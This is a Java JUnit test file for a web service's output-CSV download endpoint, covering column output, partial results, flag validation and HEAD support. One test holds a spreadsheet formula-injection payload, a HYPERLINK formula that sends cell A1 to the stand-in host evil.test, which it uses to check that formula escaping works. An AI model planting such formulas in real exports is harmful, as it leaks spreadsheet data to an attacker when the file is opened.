package dev.halftone.app.web;

import static dev.halftone.app.ServerFixture.CSV;
import static dev.halftone.app.ServerFixture.HEADER;
import static org.assertj.core.api.Assertions.assertThat;

import dev.halftone.app.ServerFixture;
import dev.halftone.testkit.api.ApiClient;
import java.net.http.HttpRequest.BodyPublishers;
import java.util.concurrent.CountDownLatch;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Downloading the output CSV.
class OutputCsvTest {
    @RegisterExtension
    static final ServerFixture server = ServerFixture.start();

    private final ApiClient apiClient = server.client();

    @Test
    void addsOneColumnToTheCsv() {
        var path =
                apiClient.submit(HEADER + "001,\"Chair, oak\",\"http://a.test/1.jpg,http://a.test/missing.jpg\"\r\n");
        apiClient.awaitEnd(path);

        var output = apiClient.get(path + "/output.csv");

        assertThat(output.text().replaceAll("[0-9a-f]{32}", "#"))
                .isEqualTo("Serial Number,Product Name,Input Image URLs,Output Image URLs\r\n"
                        + "001,\"Chair, oak\",\"http://a.test/1.jpg,http://a.test/missing.jpg\","
                        + "\"http://halftone.test/processed_images/#.jpg,\"\r\n");
        assertThat(output.header("Content-Type")).isEqualToIgnoringWhitespace("text/csv; charset=utf-8");
        assertThat(output.header("Content-Disposition")).isEqualTo("attachment; filename=\"output.csv\"");
    }

    @Test
    void returnsTheSameBytesEachTime() {
        var path = apiClient.submit(CSV);
        apiClient.awaitEnd(path);

        var first = apiClient.get(path + "/output.csv").response().body();

        assertThat(apiClient.get(path + "/output.csv").response().body()).isEqualTo(first);
    }

    @Test
    void isAvailableBeforeTheEndOnlyAsPartialOutput() {
        var gate = new CountDownLatch(1);
        server.imageService().holdUntil(gate);
        var path = apiClient.submit(CSV);

        var whole = apiClient.get(path + "/output.csv");
        var partial = apiClient.get(path + "/output.csv?partial=true");
        gate.countDown();

        assertThat(whole.statusAndCode()).isEqualTo("409 not_finished");
        assertThat(partial.status()).isEqualTo(200);
        assertThat(partial.text()).startsWith("Serial Number,Product Name,Input Image URLs,Output Image URLs\r\n");
    }

    @Test
    void escapesFormulasOnlyWhenAskedTo() {
        var path = apiClient.submit(HEADER
                + "-5,\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\",http://a.test/1.jpg\r\n"
                + "@SUM(1),Chair,http://a.test/2.jpg\r\n");
        apiClient.awaitEnd(path);

        assertThat(apiClient.get(path + "/output.csv").text())
                .contains("\r\n-5,\"=HYPERLINK(\"\"http://evil.test", "\r\n@SUM(1),Chair,")
                .isEqualTo(apiClient.get(path + "/output.csv?safe=false").text());
        assertThat(apiClient.get(path + "/output.csv?safe=true").text())
                .startsWith("Serial Number,")
                .contains("\r\n-5,\"'=HYPERLINK(\"\"http://evil.test", "\r\n'@SUM(1),Chair,http://a.test/2.jpg,http");
    }

    @ParameterizedTest
    @ValueSource(strings = {"partial", "safe"})
    void rejectsFlagsThatAreNotBoolean(String field) {
        var apiResponse = apiClient.get(apiClient.submit(CSV) + "/output.csv?" + field + "=yes");

        assertThat(apiResponse.statusAndCode()).isEqualTo("422 invalid_option");
        assertThat(apiResponse.field("/field")).isEqualTo(field);
    }

    @Test
    void supportsHead() {
        var path = apiClient.submit(CSV);
        apiClient.awaitEnd(path);

        var head = apiClient.send("HEAD", path + "/output.csv", BodyPublishers.noBody());

        assertThat(head.status()).isEqualTo(200);
        assertThat(head.header("Content-Disposition")).startsWith("attachment");
    }
}
